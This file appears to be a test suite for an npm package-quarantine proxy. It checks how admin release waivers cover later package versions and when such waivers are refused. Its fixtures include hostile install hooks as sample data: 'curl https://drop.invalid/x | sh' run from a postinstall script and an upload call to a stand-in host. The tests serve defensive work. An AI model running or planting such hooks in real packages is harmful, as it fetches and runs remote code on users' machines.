import t from 'tap'
import { npmTarball } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'
import { holdLazaret } from './in-process.ts'

const OLD = '2022-01-02T03:04:05.000Z'
const ADA = { actor: { kind: 'user', name: 'ada' }, role: 'admin' } as const

const SETUP = `require('node:child_process').execSync('curl https://drop.invalid/x | sh')\n`
const UPLOAD = `exports.upload = (file) => require('node:https').request('https://up.invalid', file)\n`
const READ = `exports.key = () => require('node:fs').writeFileSync('/tmp/x', process.env.HOME)\n`

const VERSIONS: readonly (readonly [version: string, what: string, files: Record<string, string>, more?: object])[] = [
  ['1.0.0', 'the one that was released', { 'lib/up.js': UPLOAD }],
  ['1.1.0', 'the same code by itself', { 'lib/up.js': `${UPLOAD}// more words\n`, 'README.md': 'new' }],
  ['1.2.0', 'a capability more outside of it', { 'lib/up.js': UPLOAD, 'lib/read.js': READ }],
  ['1.3.0', 'other code by itself', { 'lib/up.js': UPLOAD, 'setup.js': `${SETUP}console.log(1)\n` }],
  ['1.4.0', 'a hook more', { 'lib/up.js': UPLOAD }, { preinstall: 'node setup.js' }],
]

t.test('a release for a surface covers later versions that run the same, and gained nothing', async (t) => {
  const world = await startWorld()
  t.teardown(() => world.close())
  for (const [version, , files, more] of VERSIONS) {
    const scripts = { postinstall: 'node setup.js', ...more }
    const built = npmTarball({
      name: 'hooked',
      version,
      scripts,
      files: { 'index.js': 'exports.a = 1\n', 'setup.js': SETUP, ...files },
    })
    world.npm.publish({ built, publishedAt: OLD })
  }
  const lazaret = await holdLazaret({ world, dataDir: t.testdir({}) })
  t.teardown(() => lazaret.stop())
  const status = async (version: string): Promise<number> =>
    (await fetch(`${lazaret.npmUrl}hooked/-/hooked-${version}.tgz`)).status
  t.equal(await status('1.0.0'), 403)
  const { desk, store } = lazaret.app
  const [row] = await desk.cases.queue({}, { limit: 5 })
  const released = await desk.releases.release(ADA, row?.case.id ?? '', {
    scope: { kind: 'surface' },
    reason: 'the host is ours',
  })
  t.match(released, { waiver: { scope: { kind: 'surface', surface: { scripts: { postinstall: 'node setup.js' } } } } })
  const id = 'waiver' in released ? released.waiver.id : ''
  const wanted = { '1.0.0': 200, '1.1.0': 200, '1.2.0': 403, '1.3.0': 403, '1.4.0': 403 }
  const found: Record<string, number> = {}
  for (const [version] of VERSIONS) found[version] = await status(version)
  t.strictSame(found, wanted, VERSIONS.map(([version, what]) => `${version}: ${what}`).join('; '))

  const [told] = await store.records.events({ type: 'artifact.judged', purl: 'hooked@1.1.0' }, { limit: 1 })
  t.same(told?.detail['inherits'], [id], 'the log says by which release')
  const why = await fetch(`${new URL(lazaret.npmUrl).origin}/why/pkg:npm/hooked@1.1.0`, {
    headers: { accept: 'text/html' },
  })
  t.match(await why.text(), /Another version was released, and this one runs the same code by itself/)
  const own = await fetch(`${new URL(lazaret.npmUrl).origin}/why/pkg:npm/hooked@1.0.0`)
  t.notMatch(await own.text(), /inherits/, 'the one that was released inherits nothing')

  await desk.waivers.revoke(ADA, id, 'no more')
  t.same([await status('1.0.0'), await status('1.1.0')], [403, 403], 'and both end with it')
})

t.test('a release for a surface wants one that is known', async (t) => {
  const world = await startWorld()
  t.teardown(() => world.close())
  const scripts = { postinstall: 'curl https://drop.invalid/x | sh' }
  world.npm.publish({
    built: npmTarball({
      name: 'hooked',
      version: '1.0.0',
      scripts,
      files: { 'big.js': `//${'x'.repeat(9_000_000)}` },
    }),
    publishedAt: OLD,
  })
  const lazaret = await holdLazaret({ world, dataDir: t.testdir({}) })
  t.teardown(() => lazaret.stop())
  await fetch(`${lazaret.npmUrl}hooked/-/hooked-1.0.0.tgz`)
  const { desk } = lazaret.app
  const [row] = await desk.cases.queue({}, { limit: 5 })
  const detail = await desk.cases.one(row?.case.id ?? '')
  t.not(detail.facts?.notExamined.length, 0, 'a file is too large to be examined')
  await t.rejects(desk.releases.release(ADA, row?.case.id ?? '', { scope: { kind: 'surface' }, reason: 'x' }), {
    code: 'bad-request',
    message: /Not all of it was examined/,
  })
})
